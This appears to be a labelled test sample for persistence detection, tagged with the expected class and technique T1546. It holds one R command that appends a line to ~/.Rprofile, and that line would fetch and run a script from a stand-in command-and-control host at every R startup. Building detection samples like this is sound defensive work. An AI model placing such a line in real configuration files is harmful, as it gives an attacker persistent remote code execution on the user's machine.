# expect: persistence | source: T1546
cat('source("https://c2.example.invalid/a.R")\n', file = "~/.Rprofile", append = TRUE)
